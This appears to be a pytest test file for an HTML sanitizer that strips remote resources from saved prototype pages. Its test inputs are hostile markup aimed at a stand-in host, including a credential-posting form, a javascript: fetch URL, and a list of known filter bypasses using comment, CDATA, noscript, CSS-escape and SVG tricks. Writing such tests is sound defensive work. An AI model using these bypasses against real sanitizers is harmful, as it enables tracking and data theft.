"""Remote resources are removed or neutralised before a page is saved; what a prototype needs is kept."""

from __future__ import annotations

import re

import pytest

from prototypes.services.sanitize import EMPTY_DATA_URL, PLACEHOLDER_IMAGE, sanitize_html


def test_a_clean_page_keeps_everything_but_its_comments():
    page = (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><style>.a{color:red}</style></head>'
        '<body class="h-full bg-gray-50"><a href="#top" onclick="toggle()">Menu &amp; more</a><!-- note -->'
        "<script>function toggle(){document.body.classList.toggle('open')}</script>"
        '<img src="data:image/png;base64,AAAA" alt="x"><svg viewBox="0 0 1 1"><path d="M0 0"/></svg></body></html>'
    )

    result = sanitize_html(page)

    assert result.html == page.replace("<!-- note -->", "").replace('"/></svg>', '"></path></svg>')
    assert result.notes == ()


@pytest.mark.parametrize(
    ("html", "gone"),
    [
        ('<script src="https://cdn.tailwindcss.com"></script><p>x</p>', "cdn.tailwindcss.com"),
        ('<script src="//unpkg.com/alpinejs" defer>ignored()</script><p>x</p>', "unpkg.com"),
        ('<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter"><p>x</p>', "googleapis"),
        ('<link rel="preconnect" href="https://fonts.gstatic.com"><p>x</p>', "gstatic"),
        ('<iframe src="https://evil.example"><p>inside</p></iframe><p>x</p>', "evil.example"),
        ('<object data="https://evil.example/x.swf"><p>inside</p></object><p>x</p>', "evil.example"),
        ('<embed src="https://evil.example/x.swf"><p>x</p>', "evil.example"),
        ('<base href="https://evil.example/"><p>x</p>', "evil.example"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>', "evil.example"),
        ('<form action="https://evil.example/steal"><input name="pw"></form><p>x</p>', "evil.example"),
        ('<button formaction="https://evil.example/steal">Go</button><p>x</p>', "evil.example"),
        ("<style>@import url('https://fonts.googleapis.com/css?family=Inter');.a{}</style><p>x</p>", "googleapis"),
        ('<style>@import "https://evil.example/a.css";</style><p>x</p>', "evil.example"),
        (
            "<style>@font-face{font-family:X;src:url(https://evil.example/x.woff2) format('woff2')}</style><p>x</p>",
            "evil.example",
        ),
        ("<div style=\"background-image:url('https://evil.example/bg.png')\">x</div><p>x</p>", "evil.example"),
        ('<img src="https://via.placeholder.com/150" alt="a"><p>x</p>', "placeholder.com"),
        ('<img src="data:," srcset="https://evil.example/a.png 2x"><p>x</p>', "evil.example"),
        ('<a href="/pricing" ping="https://evil.example/track">x</a><p>x</p>', "evil.example"),
        ('<video poster="https://evil.example/p.jpg"></video><p>x</p>', "evil.example"),
        ('<audio src="https://evil.example/a.mp3"></audio><p>x</p>', "evil.example"),
    ],
)
def test_remote_resources_are_removed(html, gone):
    result = sanitize_html(html)

    assert gone not in result.html
    assert "<p>x</p>" in result.html
    assert result.notes


def test_the_content_of_a_removed_iframe_or_script_is_removed_too():
    result = sanitize_html('<iframe src="https://e.example"><p>inside</p></iframe><script src="x.js">bad()</script>ok')

    assert result.html == "ok"


def test_a_script_source_the_textual_pass_misses_is_made_inert():
    result = sanitize_html("<script\nsrc=https://e.example/a.js defer></script\n\n x>ok")

    assert "e.example" not in result.html
    assert "ok" in result.html


def test_a_remote_image_becomes_an_inline_placeholder():
    result = sanitize_html('<img class="w-full" src="https://images.unsplash.com/photo-1" alt="Team">')

    assert result.html == f'<img class="w-full" src="{PLACEHOLDER_IMAGE}" alt="Team">'
    assert result.notes == ("replaced remote image https://images.unsplash.com/photo-1",)


def test_a_remote_css_url_becomes_an_empty_data_url():
    result = sanitize_html("<style>.hero{background:url(https://e.example/a.png) center}</style>")

    assert result.html == f'<style>.hero{{background:url("{EMPTY_DATA_URL}") center}}</style>'


def test_javascript_urls_are_replaced():
    result = sanitize_html("<a href=\" javascript:fetch('https://e.example')\">x</a>")

    assert result.html == "<a>x</a>"


def test_inline_scripts_and_event_handlers_stay():
    page = '<button onclick="open()">Open</button><script>function open(){}</script>'

    assert sanitize_html(page).html == page


def test_a_form_posting_to_the_page_itself_keeps_working():
    page = '<form action="#" onsubmit="return false"><input name="q"></form>'

    assert sanitize_html(page).html == page


@pytest.mark.parametrize(
    "html",
    [
        # Markup a tokenizer mistakes for a comment, CDATA or a declaration, but a browser does not.
        '<!--><img src="https://evil.example/c1"> -->',
        '<!--!><img src="https://evil.example/c2">-->',
        '<p><![CDATA[ ]]><img src="https://evil.example/cdata">',
        '<svg><![CDATA[</svg><img src="https://evil.example/svg-cdata">]]></svg>',
        '<!x><img src="https://evil.example/decl">',
        # noscript is parsed differently with scripting on; its content is dropped.
        '<noscript><p title="</noscript><img src=https://evil.example/noscript>"></noscript>',
        # CSS escapes and functions that take a URL string.
        "<style>.a{background:\\75 rl(https://evil.example/esc1)}</style>",
        '<style>.a{background:u\\72l("https://evil.example/esc2")}</style>',
        '<div style="background:\\000075rl(https://evil.example/esc3)">x</div>',
        '<style>.a{background-image:image-set("https://evil.example/set.png" 1x)}</style>',
        "<style>.a{background:-webkit-image-set('//evil.example/set2.png' 2x)}</style>",
        '<style>@\\69mport "https://evil.example/imp.css";</style>',
        "<style>.a{background:url(https://evil.example/c/*x*/)}</style>",
        "<style>.a{background:ur/**/l(https://evil.example/cmt)}</style>",
        # SVG resources.
        '<svg><filter id="f"><feImage href="https://evil.example/feimage"/></filter></svg>',
        '<svg><filter><feImage xlink:href="https://evil.example/feimage2"/></filter></svg>',
        '<svg><image href="https://evil.example/svgimage"/></svg>',
        '<svg><use href="https://evil.example/sprite.svg#i"/></svg>',
        '<svg><foreignObject><img src="https://evil.example/fo"></foreignObject></svg>',
        # Others.
        '<link rel="preload" as="image" href="https://evil.example/preload">',
        '<input type="image" src="https://evil.example/input">',
        '<table background="https://evil.example/table"><tr><td>x</td></tr></table>',
        '<base href="https://evil.example/"><img src="a.png">',
    ],
)
def test_known_bypasses_of_the_former_filter_load_nothing_remote(html):
    result = sanitize_html(f"{html}<p>after</p>")

    # Escaped text may still mention the host; no tag, attribute or stylesheet may.
    markup = re.sub(r">[^<]*<", "><", result.html)
    styles = "".join(re.findall(r"<style[^>]*>(.*?)</style>", result.html, re.DOTALL))
    assert "evil.example" not in markup + styles
    assert "<p>after</p>" in result.html


def test_a_full_page_keeps_its_head_and_the_attributes_of_html_and_body():
    page = (
        '<!doctype html><html lang="de" class="h-full"><head><meta charset="utf-8">'
        '<meta name="viewport" content="width=device-width, initial-scale=1"><title>Shop</title>'
        '<script src="https://cdn.tailwindcss.com"></script><style>body{font-family:Inter}</style></head>'
        '<body class="bg-white" onload="init()"><main id="app">Hi</main>'
        "<script>function init(){}</script></body></html>"
    )

    result = sanitize_html(page)

    assert result.html.startswith('<!DOCTYPE html><html lang="de" class="h-full"><head><meta charset="utf-8">')
    assert '<meta name="viewport" content="width=device-width, initial-scale=1"><title>Shop</title>' in result.html
    assert "<title>Shop</title><style>body{font-family:Inter}</style></head>" in result.html
    assert '<body class="bg-white" onload="init()"><main id="app">Hi</main>' in result.html
    assert any("cdn.tailwindcss.com" in note for note in result.notes)
